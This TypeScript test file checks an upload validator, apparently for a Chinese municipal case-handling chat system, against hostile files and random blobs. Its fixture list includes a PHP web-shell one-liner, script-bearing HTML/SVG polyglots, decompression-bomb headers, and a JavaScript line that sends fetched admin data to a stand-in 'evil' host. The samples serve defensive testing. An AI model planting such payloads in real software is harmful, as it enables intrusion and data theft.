/**
 * R36 upload validation: a corpus of hostile files and 1,000 random blobs against the one door every upload
 * passes (storeUpload), then the same through the chat pipeline: a clear Chinese refusal and nothing stored.
 */
import { readFileSync } from "node:fs";
import { crc32 } from "node:zlib";
import { sql } from "drizzle-orm";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Deps } from "../../src/deps.js";
import { MAX_UPLOAD_BYTES } from "../../src/domain/file-type.js";
import { storeUpload } from "../../src/handlers/evidence.js";
import { DomainError } from "../../src/handlers/errors.js";
import { tempDb } from "../helpers/db.js";
import { say, seedFixture, testClock, testDeps } from "../helpers/fixture.js";

const fixture = (name: string) => new Uint8Array(readFileSync(new URL(`../fixtures/images/${name}`, import.meta.url)));
const JPG = fixture("site.jpg");
const PNG = fixture("site.png");
const WEBP = fixture("site.webp");
const text = (s: string) => new TextEncoder().encode(s);
const cat = (...parts: Uint8Array[]) => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) out.set(p, (at += p.length) - p.length);
  return out;
};

/** A PNG chunk with its CRC. */
function chunk(type: string, data: Uint8Array): Uint8Array {
  const body = cat(text(type), data);
  const len = new Uint8Array(4);
  new DataView(len.buffer).setUint32(0, data.length);
  const crc = new Uint8Array(4);
  new DataView(crc.buffer).setUint32(0, crc32(body));
  return cat(len, body, crc);
}
/** A well-formed PNG that claims `w`×`h` pixels: a decompression bomb if anything tried to decode it. */
function pngClaiming(w: number, h: number): Uint8Array {
  const ihdr = new Uint8Array(13);
  const v = new DataView(ihdr.buffer);
  v.setUint32(0, w);
  v.setUint32(4, h);
  ihdr.set([8, 2, 0, 0, 0], 8);
  return cat(Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk("IHDR", ihdr), chunk("IDAT", Uint8Array.from([0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01])), chunk("IEND", new Uint8Array()));
}
/** The fixture JPEG with its frame header rewritten to claim `w`×`h`. */
function jpegClaiming(w: number, h: number): Uint8Array {
  const b = JPG.slice();
  for (let i = 2; i < b.length - 9; i++) {
    if (b[i] === 0xff && b[i + 1] >= 0xc0 && b[i + 1] <= 0xc2) {
      new DataView(b.buffer).setUint16(i + 5, h);
      new DataView(b.buffer).setUint16(i + 7, w);
      return b;
    }
  }
  throw new Error("fixture JPEG has no SOF marker");
}
const mp4 = cat(Uint8Array.from([0, 0, 0, 0x18]), text("ftypisom"), Uint8Array.from([0, 0, 2, 0]), text("isomiso2"), new Uint8Array(64));

const HOSTILE: [string, Uint8Array][] = [
  ["HTML renamed .jpg", text("<!DOCTYPE html><html><script>alert(document.cookie)</script></html>")],
  ["SVG with script", text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>')],
  ["PHP renamed .jpg", text("<?php system($_GET['c']); ?>")],
  ["HTML with a BOM", cat(Uint8Array.from([0xef, 0xbb, 0xbf]), text("<html><body onload=alert(1)>"))],
  ["JPEG/HTML polyglot (HTML after EOI)", cat(JPG, text("<html><script>alert(1)</script></html>"))],
  ["PNG/HTML polyglot (HTML after IEND)", cat(PNG, text("<script>alert(1)</script>"))],
  ["zero bytes", new Uint8Array()],
  ["10 MB + 1", cat(JPG.subarray(0, 200), new Uint8Array(MAX_UPLOAD_BYTES + 1 - 202), Uint8Array.from([0xff, 0xd9]))],
  ["PNG claiming 20000×20000", pngClaiming(20_000, 20_000)],
  ["JPEG claiming 20000×20000", jpegClaiming(20_000, 20_000)],
  ["PNG claiming 0×0", pngClaiming(0, 0)],
  ["truncated JPEG", JPG.subarray(0, Math.floor(JPG.length / 2))],
  ["truncated PNG", PNG.subarray(0, PNG.length - 20)],
  ["truncated WebP", WEBP.subarray(0, WEBP.length - 10)],
  ["JPEG magic only", Uint8Array.from([0xff, 0xd8, 0xff])],
  ["PNG signature only", Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])],
  ["GIF", cat(text("GIF89a"), new Uint8Array(40))],
  ["BMP", cat(text("BM"), new Uint8Array(60))],
  ["Windows executable", cat(text("MZ"), new Uint8Array(200))],
  ["ELF binary", cat(Uint8Array.from([0x7f, 0x45, 0x4c, 0x46]), new Uint8Array(100))],
  ["JavaScript", text("fetch('/admin').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))")],
];

let t: Awaited<ReturnType<typeof tempDb>>;
let deps: Deps;
beforeAll(async () => {
  t = await tempDb();
  await seedFixture(t.db);
  deps = await testDeps(t.db, t.dir, testClock());
});
afterAll(() => t.cleanup());

const outcome = async (bytes: Uint8Array) => {
  try {
    return { ok: await storeUpload(deps, { bytes }, deps.clock()) };
  } catch (e) {
    if (e instanceof DomainError) return { refused: e.message };
    throw e; // anything else is a crash, and fails the test
  }
};

describe("storeUpload (R36)", () => {
  it("accepts real JPEG, PNG and WebP photos, an MP4 video and a PDF, by content, under server-made names", async () => {
    for (const [bytes, mime, kind] of [[JPG, "image/jpeg", "image"], [PNG, "image/png", "image"], [WEBP, "image/webp", "image"], [mp4, "video/mp4", "file"], [cat(text("%PDF-1.7\n"), new Uint8Array(20)), "application/pdf", "file"]] as const) {
      const r = await outcome(bytes);
      expect(r.ok, mime).toMatchObject({ mime, kind, size: bytes.length });
      expect(r.ok!.storageKey).toMatch(/^evidence\/\d{4}\/\d{2}\/[0-9a-f-]{36}\.\w+$/);
    }
  });

  it.each(HOSTILE)("refuses %s with a Chinese reason", async (_name, bytes) => {
    const r = await outcome(bytes);
    expect(r.ok).toBeUndefined();
    expect(r.refused).toMatch(/[\u4e00-\u9fff]/);
  });

  it("names the pixel limit for a decompression bomb", async () => {
    expect((await outcome(pngClaiming(20_000, 20_000))).refused).toContain("20000×20000");
    expect((await outcome(pngClaiming(7_000, 6_000))).refused).toContain("4000 万像素"); // 42 MP
    expect((await outcome(pngClaiming(6_000, 6_000))).ok).toMatchObject({ mime: "image/png" }); // 36 MP is within it
  });

  it("never crashes on 1,000 random blobs, and accepts none that is not a whole image or a known file", async () => {
    const magic = fc.constantFrom(new Uint8Array(), Uint8Array.from([0xff, 0xd8, 0xff]), PNG.subarray(0, 16), WEBP.subarray(0, 16), text("%PDF-"), text("PK\u0003\u0004"));
    await fc.assert(
      fc.asyncProperty(magic, fc.uint8Array({ maxLength: 2048 }), async (head, tail) => {
        const r = await outcome(cat(head, tail));
        if (r.ok) expect(["application/pdf", "application/zip", "video/mp4", "video/quicktime"]).toContain(r.ok.mime);
      }),
      { numRuns: 1000 },
    );
  });
});

describe("through the chat (R36)", () => {
  it("refuses a hostile photo with a clear reply and stores nothing; a real photo still binds", async () => {
    const id = Number(/#(\d+)/.exec(await say(deps, "disp", "g-command", "交办 荷花池某小区垃圾堆放 给 荷花池街道 限 5个工作日"))![1]);
    await say(deps, "hh.officer", "g-hh", `签收 #${id}`);
    const files = sql`select count(*) as n from attachments`;
    const before = (await t.db.all<{ n: number }>(files))[0].n;
    const reply = await say(deps, "hh.officer", "g-hh", `进展 #${id} 已清运`, { images: [jpegClaiming(20_000, 20_000)] });
    expect(reply).toContain("像素过大");
    expect((await t.db.all<{ n: number }>(files))[0].n).toBe(before);
    expect((await t.db.all<{ n: number }>(sql`select count(*) as n from case_events where case_id = ${id} and kind = 'progress'`))[0].n).toBe(0);
    expect(await say(deps, "hh.officer", "g-hh", `进展 #${id} 已清运`, { images: [JPG] })).toContain("附件 1 个");
    expect((await t.db.all<{ n: number }>(files))[0].n).toBe(before + 1);
  });
});
